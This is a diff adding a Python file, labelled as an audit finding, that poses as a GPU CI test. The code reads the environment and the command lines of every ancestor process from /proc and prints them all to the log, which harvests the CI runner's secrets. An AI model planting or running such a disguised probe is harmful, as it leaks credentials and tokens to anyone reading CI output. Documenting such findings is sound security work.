@@ -1,0 +1,26 @@
+# finding 3: a PR's test looks for the runner's secrets in its environment and in the
+# command line of every ancestor process (/proc/<ppid>/cmdline and up), and prints them all.
+import json
+import os
+
+from ci_policy import register_cuda_ci
+
+register_cuda_ci(est_time=1, suite="gpu", labels=["megatron"])
+
+
+def ancestors_cmdlines():
+    out, pid = [], os.getppid()
+    while pid > 1:
+        try:
+            with open(f"/proc/{pid}/cmdline", "rb") as fh:
+                out.append(fh.read().decode("utf-8", "replace").split("\0"))
+            with open(f"/proc/{pid}/stat", "rb") as fh:
+                data = fh.read().decode("ascii", "replace")
+        except OSError:
+            break
+        pid = int(data[data.rfind(")") + 2:].split()[1])
+    return out
+
+
+if __name__ == "__main__":
+    print("PROBE " + json.dumps({"env": dict(os.environ), "cmdlines": ancestors_cmdlines()}, sort_keys=True))
